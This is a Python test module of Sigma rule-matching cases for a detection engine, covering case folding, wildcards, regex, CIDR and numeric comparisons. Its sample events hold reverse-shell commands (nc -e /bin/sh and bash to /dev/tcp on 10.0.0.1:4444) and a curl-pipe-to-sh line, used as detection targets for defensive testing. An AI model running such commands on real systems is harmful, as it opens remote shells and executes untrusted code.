"""Sigma matching semantics as cases: a rule, events, and the events it must match.

The embedded engine is checked against the expectations in tests/unit; the same cases run on
real Elasticsearch in tests/integration, which also requires both engines to agree.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

from tests.unit.detection.helpers import process_event, rule_yaml

PROC = {"product": "linux", "category": "process_creation"}
NET = {"product": "linux", "category": "network_connection"}


def net_event(ip: str, port: int = 443) -> dict[str, Any]:
    return {
        "@timestamp": "2026-11-28T10:00:00.000Z",
        "host": {"name": "web-01"},
        "event": {"category": ["network"], "type": ["start"], "action": "connection_attempted"},
        "process": {"executable": "/usr/bin/bash", "name": "bash"},
        "destination": {"ip": ip, "port": port},
        "source": {"ip": "192.0.2.10", "port": 50000},
    }


@dataclass
class Case:
    name: str
    detection: dict[str, Any]
    events: list[dict[str, Any]]
    expected: list[int]
    logsource: dict[str, str] = field(default_factory=lambda: dict(PROC))

    def rule(self) -> str:
        return rule_yaml(self.detection, title=f"semantics {self.name}", logsource=self.logsource)


CASES: list[Case] = [
    Case(
        "equality is case-insensitive",
        {"sel": {"Image": "/usr/bin/CURL"}, "condition": "sel"},
        [process_event("curl x", "/usr/bin/curl"), process_event("curl x", "/usr/bin/curl2")],
        [0],
    ),
    Case(
        "cased is case-sensitive",
        {"sel": {"CommandLine|cased|contains": "SECRET"}, "condition": "sel"},
        [process_event("echo SECRET"), process_event("echo secret")],
        [0],
    ),
    Case(
        "wildcards * and ?",
        {"sel": {"CommandLine": "wget *http?//*"}, "condition": "sel"},
        [process_event("wget -q http://x"), process_event("wget -q https://x"), process_event("curl http://x")],
        [0],
    ),
    Case(
        "contains|all in one value",
        {"sel": {"CommandLine|contains|all": ["CURL ", "| sh"]}, "condition": "sel"},
        [process_event("curl -s http://x | sh"), process_event("curl -s http://x > f; sh f")],
        [0],
    ),
    Case(
        "contains|all across the elements of an array",
        {"sel": {"process.args|contains|all": ["-e", "/bin/sh"]}, "condition": "sel"},
        [process_event("nc -e /bin/sh 10.0.0.1 4444"), process_event("nc -l 4444 /bin/sh")],
        [0],
    ),
    Case(
        "startswith and endswith",
        {"sel": {"Image|startswith": "/TMP/", "CommandLine|endswith": ".sh"}, "condition": "sel"},
        [process_event("/tmp/x/run.sh", "/tmp/x/run"), process_event("/tmp/x/run.py", "/tmp/x/run")],
        [0],
    ),
    Case(
        "re searches (unanchored), case-sensitive, Lucene operators literal",
        {"sel": {"CommandLine|re": "bash -i >& /dev/tcp/[0-9.]+/[0-9]+"}, "condition": "sel"},
        [
            process_event("sh -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"),
            process_event("bash -i >& /dev/udp/10.0.0.1/4444"),
            process_event("BASH -I >& /dev/tcp/10.0.0.1/4444"),
        ],
        [0],
    ),
    Case(
        "re with anchors",
        {"sel": {"CommandLine|re": "^python[0-9.]* -c"}, "condition": "sel"},
        [process_event("python3 -c 'x'"), process_event("sudo python3 -c 'x'")],
        [0],
    ),
    Case(
        "cidr",
        {"sel": {"DestinationIp|cidr": "10.0.0.0/8"}, "condition": "sel"},
        [net_event("10.1.2.3"), net_event("11.1.2.3"), net_event("192.168.1.1")],
        [0],
        NET,
    ),
    Case(
        "exists",
        {"sel": {"process.parent.name|exists": True}, "condition": "sel"},
        [process_event("id", process__parent__name="bash"), process_event("id")],
        [0],
    ),
    Case(
        "exists false",
        {"sel": {"process.parent.name|exists": False}, "condition": "sel"},
        [process_event("id", process__parent__name="bash"), process_event("id")],
        [1],
    ),
    Case(
        "null value means absent",
        {"sel": {"Image|endswith": "/id", "ParentImage": None}, "condition": "sel"},
        [
            process_event("id", "/usr/bin/id", process__parent__executable="/bin/bash"),
            process_event("id", "/usr/bin/id"),
        ],
        [1],
    ),
    Case(
        "not with a missing field matches",
        {
            "sel": {"Image|endswith": "/id"},
            "filter": {"user.effective.name": "root"},
            "condition": "sel and not filter",
        },
        [process_event("id", "/usr/bin/id"), process_event("id", "/usr/bin/id", user__effective__name="ROOT")],
        [0],
    ),
    Case(
        "numbers",
        {"sel": {"DestinationPort": 4444}, "condition": "sel"},
        [net_event("10.0.0.1", 4444), net_event("10.0.0.1", 44445)],
        [0],
        NET,
    ),
    Case(
        "an integer string matches a number",
        {"sel": {"ProcessId": "4242"}, "condition": "sel"},
        [process_event("id", process__pid=4242), process_event("id", process__pid=42424)],
        [0],
    ),
    Case(
        # (a wildcard or |re on a number is refused at compile time: tests/integration/detection/test_typed_fields.py)
        # (|cased on a number field is refused at compile time: it means nothing there)
        "a number-like prefix matches text, never a number",
        {"text": {"CommandLine|startswith": "12"}, "condition": "text"},
        [process_event("ls", process__pid=1234), process_event("ls", process__pid=99), process_event("12 x")],
        [2],
    ),
    Case(
        "gt/gte compare numbers",
        {"sel": {"ProcessId|gte": 100}, "condition": "sel"},
        [
            process_event("a", process__pid=50),
            process_event("b", process__pid=150),
            process_event("c", process__pid=100),
        ],
        [1, 2],
    ),
    Case(
        "gt on text compares text (a keyword range, as in Elasticsearch)",
        {"sel": {"user.id|gt": 100}, "condition": "sel"},
        [
            process_event("a", user__id="50"),
            process_event("b", user__id="150"),
            process_event("c", user__id="100"),
            process_event("d", user__id="099"),
            process_event("e", user__id="ABC"),
        ],
        [0, 1, 4],
    ),
    Case(
        # Keywords search the log line (message, full text): its words in order, whatever their case.
        "keyword search over the message",
        {"keywords": ["Reverse Shell"], "condition": "keywords"},
        [
            process_event("ls", message="echo reverse shell here"),
            process_event("ls", message="echo Reverse-Shell"),
            process_event("echo reverse shell", user__name="REVERSE SHELL"),
            process_event("ls", message="reverse shells"),
        ],
        [0, 1],
    ),
    Case(
        "list of values is an OR",
        {"sel": {"Image|endswith": ["/nc", "/ncat"]}, "condition": "sel"},
        [
            process_event("nc", "/usr/bin/nc"),
            process_event("ncat", "/usr/bin/ncat"),
            process_event("cat", "/usr/bin/cat"),
        ],
        [0, 1],
    ),
    Case(
        # ECS defines event.outcome (and category, type, kind, dataset, module) in lower case: a lower-case
        # value is matched exactly there, on both engines; any other case written is matched case-insensitively.
        # Here the log source's own condition (event.type: start) shows it.
        "fields ECS defines in lower case match a lower-case value exactly",
        {"sel": {"Image|endswith": "/bash"}, "condition": "sel"},
        [process_event("a"), process_event("b", event__type=["START"]), process_event("c", event__type=["start"])],
        [0, 2],
    ),
    Case(
        # Elasticsearch's case_insensitive folds ASCII letters only, on any mapping; so does the embedded engine.
        "case folding is ASCII only",
        {"sel": {"User": "éLODIE", "CommandLine|contains": "üBER"}, "condition": "sel"},
        [
            process_event("run über-script", user__name="élodie"),
            process_event("run ÜBER-script", user__name="élodie"),
            process_event("run über-script", user__name="ÉLODIE"),
            process_event("run über-script", user__name="elodie"),
        ],
        [0],
    ),
    Case(
        "log-source conditions keep other categories out",
        {"sel": {"Image|endswith": "/bash"}, "condition": "sel"},
        [process_event("bash"), net_event("10.0.0.1")],
        [0],
    ),
]
